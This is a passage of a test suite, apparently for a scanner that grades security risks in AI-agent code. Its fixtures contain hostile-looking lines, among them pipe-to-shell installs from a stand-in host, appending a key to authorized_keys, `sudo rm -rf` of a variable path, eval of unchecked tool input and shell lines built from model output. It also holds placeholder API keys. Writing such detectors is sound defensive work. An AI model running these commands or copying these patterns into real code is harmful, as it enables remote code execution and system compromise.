describe('agent code not used for tuning, forty-fifth round: cleaning before a new ingestion', () => {
  it('emptying a table in a function named for cleaning the databases is low; in another function it is not (Python)', async () => {
    // the shape of ottomator-agents' RAG ingestion pipelines, which empty their tables before ingesting again
    const py = `import asyncpg

class DocumentIngestionPipeline:
    async def initialize(self):
        self.db_pool = await asyncpg.create_pool("postgresql://localhost/rag")

    async def _clean_databases(self):
        async with self.db_pool.acquire() as conn:
            async with conn.transaction():
                await conn.execute("DELETE FROM chunks")
                await conn.execute("DELETE FROM documents")

    async def ingest(self):
        async with self.db_pool.acquire() as conn:
            await conn.execute("DELETE FROM documents")
`;
    expect(await check('ingestion/ingest.py', py)).toEqual(['10 sql-destructive low', '11 sql-destructive low', '15 sql-destructive high']);
  });
});

describe('agent code not used for tuning, forty-sixth round: a response piped into an interpreter as data', () => {
  it('`curl … | python3 -c "…"` and `| python3 -m json.tool` give the response to a program of the script\'s own; `| bash` and `| python3 -` run it (shell)', async () => {
    // the shape of cloudflare/agents' experimental test scripts
    const sh = `#!/usr/bin/env bash
set -euo pipefail
RID=$(curl -s "$BASE/run?model=$MODEL" | python3 -c "import sys,json;print(json.load(sys.stdin)['runId'])")
curl -s "$BUFFER/status?id=$RID" | python3 -m json.tool
curl -s "$BUFFER/status?id=$RID" | python3 -W ignore tools/summarize.py
curl -fsSL https://get.example.com/install.sh | bash
curl -fsSL https://get.example.com/install.py | python3 -
curl -fsSL https://get.example.com/install.sh | sh -s -- --yes
/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"
`;
    expect((await check('gateway/ttl-sweep.sh', sh)).filter((f) => f.includes('pipe-to-shell'))).toEqual(['6 shell-pipe-to-shell high', '7 shell-pipe-to-shell high', '8 shell-pipe-to-shell high', '9 shell-pipe-to-shell high']);
  });
});

describe('a dynamic program with no source in sight (the forty-ninth round\'s grading of every earlier reading)', () => {
  it('outside code named for an agent\'s commands it is the project\'s own plumbing (low); in a shell tool, a runner or an executor it stays medium (Python)', async () => {
    // the shape of mcp-use's project template CLI and aider's installer: the program comes from the module's own choices
    const plumbing = `import subprocess

def run_install(name: str, cmd: list[str], target_dir: str) -> bool:
    result = subprocess.run(cmd, cwd=target_dir, capture_output=True, text=True)
    return result.returncode == 0
`;
    expect(await check('mcp_use/server/templates/cli.py', plumbing)).toEqual(['4 subprocess-dynamic-command low']);
    // the shape of beeai-framework's shell backend and devika's runner: the model's command, by a path the analysis lost
    const tool = `import asyncio

class LocalShellBackend:
    async def run(self, command: list[str], cwd: str) -> str:
        process = await asyncio.create_subprocess_exec(*command, cwd=cwd)
        return str(await process.wait())
`;
    expect(await check('beeai_framework/backends/local.py', tool)).toEqual(['5 subprocess-dynamic-command medium']);
    expect(await check('agents/tools/code/local.py', tool.replace('LocalShellBackend', 'LocalBackend'))).toEqual(['5 subprocess-dynamic-command medium']);
    const runner = `import subprocess

class Runner:
    def run_code(self, commands: list, project_path: str):
        for command in commands:
            subprocess.run(command.split(" "), cwd=project_path)
`;
    expect(await check('src/agents/runner.py', runner)).toEqual(['6 subprocess-dynamic-command medium']);
    expect(await check('src/agents/planner.py', runner.replace('Runner', 'Planner').replace('run_code', 'apply'))).toEqual(['6 subprocess-dynamic-command low']);
  });

  it('a program a tool parameter names keeps its severity wherever it is (TypeScript)', async () => {
    const ts = `import { spawn } from "node:child_process";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { z } from "zod";
const server = new McpServer({ name: "x", version: "1" });
server.tool("start", { program: z.string() }, async ({ program }) => {
  spawn(program, ["--version"]);
  return { content: [] };
});
export function launch(binary: string) {
  spawn(binary, ["--serve"]);
}
`;
    expect((await check('src/server.ts', ts)).filter((f) => f.includes('dynamic-command'))).toEqual(['6 subprocess-dynamic-command critical', '10 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, forty-ninth round: a check in another module\'s helper', () => {
  const artifacts = `import os, re
ARTIFACT_DIR = "/var/lib/app/artifacts"
_HEX32 = re.compile(r"^[0-9a-f]{32}$")

def resolve_artifact(artifact_id: str):
    if not _HEX32.match(artifact_id):
        raise ValueError(artifact_id)
    path = os.path.join(ARTIFACT_DIR, artifact_id + ".png")
    return path, "image/png"

def artifact_path(artifact_id: str):
    if not _HEX32.match(artifact_id):
        raise ValueError(artifact_id)
    return os.path.join(ARTIFACT_DIR, artifact_id + ".png")

def loose_path(artifact_id: str):
    return os.path.join(ARTIFACT_DIR, artifact_id + ".png")
`;
  const server = `from fastapi import FastAPI
from fastapi.responses import FileResponse
from store.artifacts import resolve_artifact, artifact_path, loose_path

app = FastAPI()

@app.get("/a/{artifact_id}")
async def get_a(artifact_id: str):
    path, mime = resolve_artifact(artifact_id)
    return FileResponse(path, media_type=mime)

@app.get("/b/{artifact_id}")
async def get_b(artifact_id: str):
    return FileResponse(artifact_path(artifact_id))

@app.get("/c/{artifact_id}")
async def get_c(artifact_id: str):
    return FileResponse(loose_path(artifact_id))
`;
  it('a path another module\'s function makes from an id it checked against a pattern of hex digits stays in its directory, also unpacked from a tuple; one it did not check is still found (Python)', async () => {
    // the shape of crawl4ai's artifact store: `resolve_artifact` raises unless the id is 32 hex digits
    expect(await checkProject({ 'store/__init__.py': '', 'store/artifacts.py': artifacts, 'store/server.py': server })).toEqual(['store/server.py 18 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, fiftieth round: install scripts, a program looked for in several places', () => {
  it('`sudo` of a command written out in full is an install step (low); `sudo` of a program or argument a variable fills keeps its grade (shell)', async () => {
    // the shape of cua's sandbox application launch scripts
    const sh = `#!/bin/bash
set -e
sudo mkdir -p /var/lib/cassandra
sudo chown -R cassandra:cassandra /var/lib/cassandra
CASSANDRA_HOME=/opt/cassandra
exec sudo "$CASSANDRA_HOME/bin/cassandra" -f -R
sudo -n "$BINARY_PATH" --version
sudo rm -rf "$TARGET_DIR"
sudo "$@"
`;
    expect((await check('apps/cassandra/linux/launch.sh', sh)).filter((f) => f.includes('shell-sudo'))).toEqual([
      '3 shell-sudo low',
      '4 shell-sudo low',
      '6 shell-sudo low',
      '7 shell-sudo medium',
      '8 shell-sudo medium',
      '9 shell-sudo medium',
    ]);
  });

  it('`shutil.which(candidate) or candidate` over a list of places of one program (constant paths and one under the home directory) starts that program; a list naming another program is still reported (Python)', async () => {
    // the shape of cua's `_docker_bin()`
    const py = `import os
import shutil
import subprocess


def _docker_bin() -> str:
    candidates = [
        "docker",
        "/usr/local/bin/docker",
        "/opt/homebrew/bin/docker",
        os.path.expanduser("~/.docker/bin/docker"),
    ]
    for candidate in candidates:
        resolved = shutil.which(candidate) or candidate
        try:
            subprocess.run([resolved, "info"], capture_output=True, check=True, timeout=10)
            return resolved
        except (subprocess.SubprocessError, FileNotFoundError, OSError):
            continue
    raise RuntimeError("Docker not found")


def stop(name: str) -> None:
    subprocess.run([_docker_bin(), "stop", name], capture_output=True)


def probe(names: list[str]) -> None:
    for candidate in names:
        subprocess.run([shutil.which(candidate) or candidate, "--version"])
`;
    expect((await check('sandbox/runtime/docker.py', py)).filter((f) => f.includes('dynamic-command'))).toEqual(['29 subprocess-dynamic-command medium']);
  });
  it('a regular expression that matches URLs with a password (`r"vnc://:([^@]*)@[^:]+:(\\d+)"`) is no credential; a URL with one is (Python)', async () => {
    // the shape of cua's lume and tart runtimes reading a VM's VNC address
    const py = `import re
def vnc(vnc_url: str):
    m = re.match(r"vnc://:([^@]*)@[^:]+:(\\d+)", vnc_url)
    n = re.search(r"vnc://(?:[^:]+):([^@]+)@([^:]+):(\\d+)", vnc_url)
    return m, n
VNC_URL = "vnc://:Xk29fPq7Lm@10.0.0.5:5900"
`;
    expect((await check('sandbox/runtime/lume.py', py)).filter((f) => f.includes('secret'))).toEqual(['6 hardcoded-secret high']);
  });

  it('`shlex.join(argv)` through a shell: the program and the words it quoted are known, so a constant program with quoted data is low; `mslex.join` is the same for cmd.exe (Python)', async () => {
    // the shape of cua's lume provider (`safe_join` in another module picks mslex or shlex by platform)
    const utils = `import os
import shlex
import mslex

def safe_join(argv: list[str]) -> str:
    if os.name == "nt":
        return mslex.join(argv)
    return shlex.join(argv)
`;
    const provider = `import subprocess
from vm.utils import safe_join

def api_get(api_url: str, program: str):
    cmd = ["curl", "--connect-timeout", "15", "-s", "-f", api_url]
    subprocess.run(safe_join(cmd), shell=True, capture_output=True, text=True)
    subprocess.run(safe_join([program, api_url]), shell=True)
`;
    expect(await checkProject({ 'vm/__init__.py': '', 'vm/utils.py': utils, 'vm/provider.py': provider })).toEqual(['vm/provider.py 6 subprocess-shell low', 'vm/provider.py 7 subprocess-shell medium']);
  });
});

describe('agent code not used for tuning, fifty-first round: route segments, translation tables, conda pins', () => {
  it('a FastAPI route\'s `{spec_id}` is one path segment: glued to `.json` it cannot leave the folder; alone it can be `..`, and `{p:path}` can be anything (Python)', async () => {
    // the shape of pyspur's OpenAPI spec endpoints
    const py = `import os
from fastapi import APIRouter
router = APIRouter()
SPECS_DIR = "pyspur/openapi_specs"

@router.get("/specs/{spec_id}")
async def get_spec(spec_id: str):
    with open(os.path.join(SPECS_DIR, f"{spec_id}.json")) as f:
        return f.read()

@router.delete("/runs/{run_id}")
async def delete_run(run_id: str):
    os.remove(os.path.join(SPECS_DIR, run_id))

@router.get("/files/{file_path:path}")
async def get_file(file_path: str):
    with open(os.path.join(SPECS_DIR, f"{file_path}.json")) as f:
        return f.read()
`;
    expect((await check('api/openapi_management.py', py)).filter((f) => f.includes('file-untrusted-path'))).toEqual(['13 file-untrusted-path high', '17 file-untrusted-path high']);
  });

  it('a message used as a translation table\'s key is no secret name; a version pin with a conda build is no secret value (TypeScript, YAML)', async () => {
    // the shapes of metamcp's validation messages and SWE-bench's conda environments
    const ts = `export const MESSAGES: Record<string, string> = {
  "Password must be at least 8 characters long": "validation:password.tooShort",
  "Password is required": "validation:password.required",
};
export const dbPassword = "Xk29fPq7LmZ3";
`;
    expect((await check('apps/frontend/lib/validation-utils.ts', ts)).filter((f) => f.includes('secret'))).toEqual(['5 hardcoded-secret high']);
    const yml = `name: testbed
dependencies:
  - aws-c-auth=0.7.31=h57bd9a3_0
  - aws-c-cal=0.8.0=hbd4e6a6_2
  - pip:
      - aws_secret=Xk29fPq7LmZ3
`;
    expect((await check('swebench/resources/xarray/environment.yml', yml)).filter((f) => f.includes('secret'))).toEqual(['6 hardcoded-secret high']);
  });

  it('an id a database lookup matched to a stored row before the test `if not row: raise` names that row\'s folder; a name column, or no test, does not (Python)', async () => {
    // the shape of pyspur's workflow and collection routes
    const py = `import shutil
from pathlib import Path
from fastapi import APIRouter, HTTPException
router = APIRouter()

@router.delete("/workflows/{workflow_id}")
def delete_workflow(workflow_id: str, db=None):
    workflow = db.query(WorkflowModel).filter(WorkflowModel.id == workflow_id).first()
    if not workflow:
        raise HTTPException(status_code=404, detail="Workflow not found")
    shutil.rmtree(Path("data/test_files") / workflow_id)

@router.delete("/by-name/{project_name}")
def delete_by_name(project_name: str, db=None):
    project = db.query(Project).filter(Project.name == project_name).first()
    if not project:
        raise HTTPException(status_code=404)
    shutil.rmtree(Path("data/projects") / project_name)

@router.delete("/unchecked/{run_id}")
def delete_unchecked(run_id: str, db=None):
    run = db.query(Run).filter(Run.id == run_id).first()
    shutil.rmtree(Path("data/runs") / run_id)

@router.delete("/got/{collection_id}")
async def delete_got(collection_id: str, session=None):
    collection = await session.get(Collection, collection_id)
    if collection is None:
        raise HTTPException(status_code=404)
    shutil.rmtree(Path("data/kb") / collection_id)
`;
    expect((await check('api/workflow_management.py', py)).filter((f) => f.includes('file-untrusted-path'))).toEqual(['18 file-untrusted-path high', '23 file-untrusted-path high']);
  });
});


describe('agent code not used for tuning, fifty-second round: a calculator tool', () => {
  it('`eval` of an expression a whole match of digits, operators and parentheses let through is low; a class with letters, or no check, keeps its grade (Python, TypeScript)', async () => {
    // the shape of mcp-gateway-registry's sample agents
    const py = `import re
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("calc")

@mcp.tool()
def calculator(expression: str) -> str:
    expression = expression.replace(" ", "")
    if not re.match(r'^[0-9+\\-*/().^ ]+$', expression):
        return "Error: only arithmetic"
    expression = expression.replace('^', '**')
    return str(eval(expression))

@mcp.tool()
def loose(expression: str) -> str:
    if not re.match(r'^[a-z0-9+\\-*/(). ]+$', expression):
        return "Error"
    return str(eval(expression))
`;
    expect((await check('agents/agent.py', py)).filter((f) => f.includes('code-eval'))).toEqual(['11 code-eval low', '17 code-eval critical']);
    const ts = `import { tool } from 'ai';
import { z } from 'zod';
export const calc = tool({
  description: 'calculator',
  parameters: z.object({ expression: z.string() }),
  execute: async ({ expression }) => {
    if (!/^[0-9+\\-*/(). ]+$/.test(expression)) throw new Error('bad');
    return eval(expression);
  },
});
export const unchecked = tool({
  description: 'unchecked',
  parameters: z.object({ expression: z.string() }),
  execute: async ({ expression }) => eval(expression),
});
`;
    expect((await check('src/calc.ts', ts)).filter((f) => f.includes('code-eval'))).toEqual(['8 code-eval low', '14 code-eval critical']);
  });

  it('`shutil.which(c) or c` over candidates one of which is in a folder a tool parameter names keeps that folder\'s origin (Python)', async () => {
    const py = `import shutil
import subprocess
from agents import function_tool

@function_tool
def start(tool_dir: str) -> str:
    for candidate in ["docker", f"{tool_dir}/docker"]:
        resolved = shutil.which(candidate) or candidate
        subprocess.run([resolved, "info"])
    return "ok"
`;
    expect((await check('app/start.py', py)).filter((f) => f.includes('subprocess'))).toEqual(['9 subprocess-dynamic-command critical']);
  });
});

describe('agent code not used for tuning, fifty-third round: an API client class in another module', () => {
  const client = `import requests

class ApiClient:
    def __init__(self, api_key: str, api_host: str):
        self.api_host = api_host
        self.session = requests.Session()
        self.session.headers.update({"Authorization": f"Bearer {api_key}"})

    def _make_request(self, method: str, endpoint: str, **kwargs):
        url = f"{self.api_host}{endpoint}"
        response = self.session.request(method, url, **kwargs)
        response.raise_for_status()
        return response.json()

    def post(self, endpoint: str, **kwargs):
        return self._make_request("POST", endpoint, **kwargs)
`;
  const server = `import os
import requests
from mcp.server.fastmcp import FastMCP
from app.client import ApiClient

mcp = FastMCP("speech")
api_client = ApiClient(os.environ["API_KEY"], "https://api.example.com")

@mcp.tool()
def text_to_audio(text: str, voice_id: str):
    data = api_client.post("/v1/t2a", json={"text": text, "voice_id": voice_id})
    return requests.get(data["audio_url"]).content

@mcp.tool()
def follow(endpoint: str):
    data = api_client.post(endpoint)
    return data

@mcp.tool()
def download(url: str):
    return requests.get(url).content
`;
  it('the link in the answer of a fixed API, asked through a client class of another module with the tool\'s input in the body, is no SSRF; the tool\'s own URLs still are (Python)', async () => {
    // the shape of MiniMax-MCP: `api_client.post(...)` returns `session.request(...).json()`, and the tool downloads the audio it links
    expect(await checkProject({ 'app/__init__.py': '', 'app/client.py': client, 'app/server.py': server })).toEqual(['app/client.py 11 egress-untrusted-url critical', 'app/server.py 21 egress-untrusted-url critical']);
  });

  it('what a method of another module\'s class returns is known at the call: a model\'s answer from `chat.ask(...)` in a shell line is model output (Python)', async () => {
    // the shape of sweep's context pruning: `chat_gpt.chat_anthropic(...)` returns the model's text, whose function call reaches `rg` through a shell
    const chat = `from openai import OpenAI

class Chat:
    def __init__(self, model: str):
        self.model = model

    def ask(self, prompt: str) -> str:
        response = OpenAI().chat.completions.create(model=self.model, messages=[{"role": "user", "content": prompt}])
        return response.choices[0].message.content
`;
    const search = `import subprocess
from app.chat import Chat

def search(question: str):
    chat = Chat("gpt-4o")
    entity = chat.ask(question)
    return subprocess.run(f"rg -n {entity} .", shell=True, capture_output=True).stdout
`;
    expect(await checkProject({ 'app/__init__.py': '', 'app/chat.py': chat, 'app/search.py': search })).toEqual(['app/search.py 7 subprocess-shell critical']);
  });
});

describe('agent code not used for tuning, fifty-fourth round: the application behind a request', () => {
  it('`request.app.state.config_file_path` is what the server set up at start, not the sender\'s; `request.query_params` still is (Python)', async () => {
    // the shape of mcp-scan's policy server: the guardrail configuration path given on its command line
    const py = `from fastapi import APIRouter, Request

router = APIRouter()

@router.get("/policy")
async def get_policy(request: Request):
    with open(request.app.state.config_file_path) as f:
        return f.read()

@router.get("/file")
async def get_file(request: Request):
    with open(request.query_params["path"]) as f:
        return f.read()
`;
    expect((await check('server/routes/policies.py', py)).filter((f) => f.includes('file-'))).toEqual(['12 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, fifty-fourth round: a program that runs others, started with dynamic arguments and no source in sight', () => {
  const helper = (name: string) => `import subprocess

def ${name}(image: str, code: str):
    subprocess.run(["npx", "-y", image], check=True)
    subprocess.run(["python3", "-c", code], check=True)
`;
  it('is low outside code named for running an agent\'s commands, unless it hands over inline code; in such code it stays medium (Python)', async () => {
    // the shape of the judged findings: `npx -y {package}`, `tmux capture-pane -t {session}`, `uvx {package}` in a
    // project's own plumbing were 45 of 49 noise (the 4 worth a look ran inline code or a shell line)
    expect((await check('app/deploy/images.py', helper('pull_image'))).filter((f) => f.includes('subprocess-shell'))).toEqual(['4 subprocess-shell low', '5 subprocess-shell medium']);
    expect((await check('app/tools/sandbox.py', helper('pull_image'))).filter((f) => f.includes('subprocess-shell'))).toEqual(['4 subprocess-shell medium', '5 subprocess-shell medium']);
    expect((await check('app/deploy/images.py', helper('run_in_terminal'))).filter((f) => f.includes('subprocess-shell'))).toEqual(['4 subprocess-shell medium', '5 subprocess-shell medium']);
  });
});

describe('agent code not used for tuning, fifty-fourth round: fixed places outside the project', () => {
  it('a fixed file of the program\'s own that it deletes is low; a person\'s folder under a home directory keeps its grade (Python)', async () => {
    // the shapes of agent-zero's self-updater (its trigger file) and anything-llm's interface service (its models.json)
    const py = `import os, shutil

def finish_update():
    os.remove("/exe/a0-self-update.yaml")
    os.unlink("/home/agent/.pi/agent/models.json")
    shutil.rmtree("/home/agent/Documents")
`;
    expect((await check('app/updater.py', py)).filter((f) => f.includes('file-outside'))).toEqual(['4 file-outside-sandbox low', '5 file-outside-sandbox low', '6 file-outside-sandbox high']);
  });

  it('a shell script writing a fixed system location configures the machine it runs on (low); an account\'s keys keep their grade (shell)', async () => {
    // the shapes of OmniParser's VM container scripts and mcp-shrimp-task-manager's service installer
    const sh = `#!/bin/bash
echo "[global]" > /etc/samba/smb.conf
cp viewer.service /etc/systemd/system/viewer.service
rm -f /etc/systemd/system/old.service
echo "$KEY" >> ~/.ssh/authorized_keys
`;
    expect((await check('tools/viewer/install-service.sh', sh)).filter((f) => f.includes('file-outside'))).toEqual([
      '2 file-outside-sandbox low',
      '3 file-outside-sandbox low',
      '4 file-outside-sandbox low',
      '5 file-outside-sandbox high',
    ]);
  });
});

describe('agent code not used for tuning, fifty-fifth round: a provider\'s wire format, a pickle the caller opted in to', () => {
  it('a converter from a provider\'s answer to message objects builds no prompt; a system message built from fetched text elsewhere is still found (Python)', async () => {
    // the shape of langchain-community's chat models: `_convert_dict_to_message` maps the answer's role to a class
    const py = `import requests
from langchain_core.messages import AIMessage, SystemMessage

def _convert_dict_to_message(_dict):
    role = _dict["role"]
    if role == "assistant":
        return AIMessage(content=_dict.get("content") or "")
    elif role == "system":
        return SystemMessage(content=_dict.get("content") or "")

def _generate(url, payload):
    response = requests.post(url, json=payload).json()
    return _convert_dict_to_message(response["choices"][0]["message"])

def brief(url):
    page = requests.get(url).text
    return SystemMessage(content=page)

def total_messages(url):
    page = requests.get(url).text
    return [SystemMessage(content=page)]
`;
    // (a name is read by its words: `total_messages` is no converter)
    expect((await check('chat_models/provider.py', py)).filter((f) => f.includes('prompt-injection'))).toEqual(['17 prompt-injection high', '21 prompt-injection high']);
  });

  it('`pickle.loads` in code its caller must opt in to with `allow_dangerous_deserialization` is low; without the opt-in, or behind `allow_pickle`, it keeps its grade (Python)', async () => {
    // the shapes of langchain-community's FAISS (`deserialize_from_bytes`) and TileDB (the constructor) stores
    const py = `import pickle

class Index:
    def __init__(self, path, allow_dangerous_deserialization: bool = False):
        if not allow_dangerous_deserialization:
            raise ValueError("set allow_dangerous_deserialization=True to load pickles")
        self.path = path

    def metadata(self, blob):
        return pickle.loads(blob)

def from_bytes(serialized: bytes, *, allow_dangerous_deserialization: bool = False):
    if not allow_dangerous_deserialization:
        raise ValueError("refused")
    return pickle.loads(serialized)

def from_cache(blob: bytes):
    return pickle.loads(blob)

def final_answer(encoded: str, allow_pickle: bool = False):
    if not allow_pickle:
        raise ValueError("pickle data rejected")
    return pickle.loads(encoded)
`;
    // (smolagents' `allow_pickle` accepts what a remote sandbox running model-written code sends back: judged worth a look in round 6)
    expect((await check('vectorstores/index.py', py)).filter((f) => f.includes('deserialization'))).toEqual(['10 code-unsafe-deserialization low', '15 code-unsafe-deserialization low', '18 code-unsafe-deserialization high', '23 code-unsafe-deserialization high']);
  });
});

describe('agent code not used for tuning, fifty-sixth round: a Compose file\'s own services', () => {
  it('a password a Compose file gives the containers it starts is low; a provider\'s key there keeps its grade (YAML)', async () => {
    // the shapes of haystack-core-integrations' OpenSearch, mcp-neo4j's and cognee's Neo4j and XAgent's MySQL set-ups
    const yml = `services:
  opensearch:
    image: opensearchproject/opensearch:2.11.0
    environment:
      - "OPENSEARCH_INITIAL_ADMIN_PASSWORD=SecureHaystack!2026"
  neo4j:
    image: neo4j:5
    environment:
      NEO4J_AUTH: neo4j/s3cretPassw0rd
  app:
    environment:
      MYSQL_DB_URL: mysql+pymysql://root:xagentmysql@db:3306/xagent
      OPENAI_API_KEY: sk-proj-4fG7hJ2kL9mN3pQ5rS8tU1vW6xY0zA2bC4dE6fG8hJ0kL2mN
`;
    expect(await check('docker-compose.yml', yml)).toEqual(['5 hardcoded-secret low', '9 hardcoded-secret low', '12 hardcoded-secret low', '13 hardcoded-secret high']);
    expect(await check('deploy/settings.yml', yml)).toContain('9 hardcoded-secret high');
  });
});

describe('agent code not used for tuning, fifty-seventh round: a rerunnable schema script', () => {
  it('a SQL script that drops a table and creates it again is low; dropping a table it does not create keeps its grade (SQL)', async () => {
    // the shape of mcp-crawl4ai-rag's crawled_pages.sql, run once against a new Supabase database
    const sql = `create extension if not exists vector;
drop table if exists crawled_pages;
drop table if exists audit_log;
create table crawled_pages (id bigserial primary key, url varchar not null);
`;
    expect((await check('crawled_pages.sql', sql)).filter((f) => f.includes('sql-destructive'))).toEqual(['2 sql-destructive low', '3 sql-destructive high']);
  });
});

describe('agent code not used for tuning, fifty-eighth round: a path of words as a value', () => {
  it('a relative path of lower-case words (`"auth": "logs/auth_logs"`) is where something is kept, not a credential; a password with a slash in it still is (Python)', async () => {
    // the shape of supabase-mcp-server's map of log collections to SQL files
    const py = `collection_map = {
    "postgres": "logs/postgres_logs",
    "auth": "logs/auth_logs",
}
DB_PASSWORD = "Xk9/mQ2v#Lp8sT4w"
`;
    expect(await check('services/loader.py', py)).toEqual(['5 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, fifty-ninth round: Strands Agents tools', () => {
  it('a Strands `@tool` function and a function in a Strands agent\'s tools take the model\'s arguments (Python)', async () => {
    // the shapes of strands-agents/tools' shell and use_computer tools
    const py = `import subprocess
from strands import Agent, tool

@tool
def open_app(app_name: str) -> str:
    return subprocess.run(f"start {app_name}", shell=True, capture_output=True, text=True).stdout

def run_query(command: str) -> str:
    return subprocess.run(command, shell=True, capture_output=True, text=True).stdout

agent = Agent(tools=[run_query])
`;
    expect((await check('tools/computer.py', py)).filter((f) => f.includes('subprocess-shell'))).toEqual(['6 subprocess-shell critical', '9 subprocess-shell critical']);
  });
});

describe('agent code not used for tuning, sixtieth round: schema changes in code, deployment defaults, names that are not passwords', () => {
  it('a whole-table update and drops in a function that also adds to the same table\'s schema are low; the same drop without the addition keeps its grade (Python)', async () => {
    // the shape of ragflow's db_models.py, turning a composite key into an id column
    const py = `import sqlite3

DB = sqlite3.connect("rag.db")

def update_tenant_llm_to_id_primary_key():
    DB.execute("ALTER TABLE tenant_llm ADD COLUMN temp_id INT NULL")
    DB.execute("UPDATE tenant_llm SET temp_id = (@row := @row + 1) ORDER BY tenant_id")
    DB.execute("ALTER TABLE tenant_llm DROP PRIMARY KEY")
    DB.execute("ALTER TABLE tenant_llm DROP COLUMN temp_id")

def tidy():
    DB.execute("ALTER TABLE tenant_llm DROP COLUMN legacy")
    DB.execute("ALTER TABLE users ADD COLUMN seen INT NULL")
`;
    expect((await check('api/db/db_models.py', py)).filter((f) => f.includes('sql-destructive'))).toEqual([
      '7 sql-destructive low',
      '8 sql-destructive low',
      '9 sql-destructive low',
      '12 sql-destructive high',
    ]);
  });

  it('a password in a Compose set-up\'s `.env` or a Helm chart\'s values is low; a provider\'s key there, and the same password in a root `.env`, keep their grade', async () => {
    // the shape of ragflow's docker/.env and helm/values.yaml
    const env = `# The password for OpenSearch.
OPENSEARCH_PASSWORD=infini_rag_flow_OS_01
OPENAI_API_KEY=sk-proj-4fG7hJ2kL9mN3pQ5rS8tU1vW6xY0zA2bC4dE6fG8hJ0kL2mN
`;
    expect(await check('docker/.env', env)).toEqual(['2 hardcoded-secret low', '3 hardcoded-secret high']);
    expect(await check('.env', env)).toEqual(['2 hardcoded-secret high', '3 hardcoded-secret high']);
    const values = `env:
  OPENSEARCH_PASSWORD: infini_rag_flow_OS_01
`;
    expect(await check('helm/values.yaml', values)).toEqual(['2 hardcoded-secret low']);
    expect(await check('config/values.yaml', values)).toEqual(['2 hardcoded-secret high']);
  });

  it('`pass` before another word (`pass_subj`) names no password, a pattern\'s replacement (`$1/auth.ts`) is no credential value; `db_pass` still is (Python, JavaScript)', async () => {
    // the shapes of ragflow's dependency labels and azure-devops-mcp's jest module map
    const py = `LABELS = {"en": {"pass_subj": "nsubjpass", "subj": "nsubj"}, "fr": {"pass_subj": "nsubj:pass"}}
db_pass = "Xk9mQ2vLp8sT4w"
`;
    expect(await check('rag/ner/labels.py', py)).toEqual(['2 hardcoded-secret high']);
    const js = `module.exports = {
  moduleNameMapper: {
    "^(.+)/auth\\\\.js$": "$1/auth.ts",
  },
};
`;
    expect(await check('jest.config.cjs', js)).toEqual([]);
    // a bcrypt hash (`$2b$12$…`) is not a replacement pattern: judged as before
    expect(await check('tests/graphs/auth.mts', 'export const USERS = { alice: { hashed_password: "$2b$12$gSvqqUPvlXP2tfVFaWK1Be7DlH.PKZbv5H8KnzzVgXXbVxpva.pFm" } };\n')).toEqual(['1 hardcoded-secret low']);
  });

  it('a SQL file with placeholders the program fills (`UPDATE "${table_name}" …`) is a template: its statements without WHERE are low; a plain script keeps its grade (SQL)', async () => {
    // the shape of MaxKB's update_paragraph_status.sql, completed and scoped by a Django query set
    const template = 'UPDATE "${table_name}"\nSET status = reverse(status), updated = \'${current_time}\';\n';
    expect(await check('apps/knowledge/sql/update_status.sql', template)).toEqual(['1 sql-destructive low']);
    expect(await check('apps/knowledge/sql/reset_status.sql', 'UPDATE paragraph SET status = 0;\n')).toEqual(['1 sql-destructive high']);
  });

  it('a helper returning one of its parameters (`unix_variant or cmd_base`), called with constants, returns one of those constants; with a caller\'s value it does not (Python)', async () => {
    // the shape of camel's hybrid browser installer: `find_command("npm")` found on PATH, shell on Windows only
    const py = `import platform, shutil, subprocess

def find_command(cmd_base, unix_variant=None):
    variant = unix_variant or cmd_base
    if shutil.which(variant):
        return variant
    return None

def check_node():
    use_shell = platform.system() == "Windows"
    npm_cmd = find_command("npm")
    subprocess.run([npm_cmd, "--version"], shell=use_shell)

def run_tool(name):
    tool = find_command(name)
    subprocess.run([tool, "--help"])
`;
    expect(await check('toolkits/installer.py', py)).toEqual(['16 subprocess-dynamic-command medium']);
    // a loop over a list parameter returns one of the list's items (not the list); over a caller's list, not known
    const loop = `import shutil, subprocess

def find_command(cmd_base, windows_variants=None):
    if windows_variants:
        for variant in windows_variants:
            if shutil.which(variant):
                return variant
    return cmd_base

def check_node():
    npx_cmd = find_command("npx", windows_variants=["npx.cmd", "npx.exe"])
    subprocess.run([npx_cmd, "playwright", "install"])

def run_tool(names):
    tool = find_command("tool", windows_variants=names)
    subprocess.run([tool, "--help"])
`;
    expect(await check('toolkits/installer.py', loop)).toEqual(['12 subprocess-shell low', '16 subprocess-dynamic-command medium']);
  });
});

describe('agent code not used for tuning, sixty-first round: the low-level MCP server given its handler, pypandoc', () => {
  it('`Server(name, on_call_tool=handler)` makes the handler\'s call parameters tool input (not its request context); pypandoc reads the file it converts and writes `outputfile` (Python)', async () => {
    // the shape of mcp-pandoc's server: the model names the output file and the content written to it
    const py = `import os
import pypandoc
from mcp.server import Server

async def handle_call_tool(name, arguments):
    contents = arguments.get("contents")
    output_file = arguments.get("output_file")
    pypandoc.convert_text(contents, "docx", format="markdown", outputfile=output_file)
    return pypandoc.convert_file(arguments.get("input_file"), "markdown")

async def call_tool(_ctx, params):
    open(_ctx.log_path, "a").write(params.name)
    return await handle_call_tool(params.name, params.arguments)

def export(report):
    pypandoc.convert_text(report, "pdf", format="markdown", outputfile="report.pdf")

server = Server("pandoc", on_call_tool=call_tool)
`;
    expect((await check('server.py', py)).filter((f) => f.includes('file-'))).toEqual(['8 file-untrusted-path critical', '9 file-untrusted-path critical']);
  });
});

describe('agent code not used for tuning, sixty-second round: code a browser page runs, a locked dev tool', () => {
  it('eval inside a function `page.evaluate` runs in the browser page is low (medium from a source); the same eval in the program keeps its grade (TypeScript)', async () => {
    // the shape of maxun's page analyzer, read from the program's own file and run in the page
    const ts = `import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright';

export async function analyze(page: Page, file: string) {
  const scriptContent = readFileSync(path.join(__dirname, file), 'utf8');
  await page.evaluate((script: string) => {
    eval(script);
  }, scriptContent);
  eval(scriptContent);
}
`;
    expect((await check('src/sdk/validator.ts', ts)).filter((f) => f.includes('code-eval'))).toEqual(['8 code-eval low', '10 code-eval high']);
  });

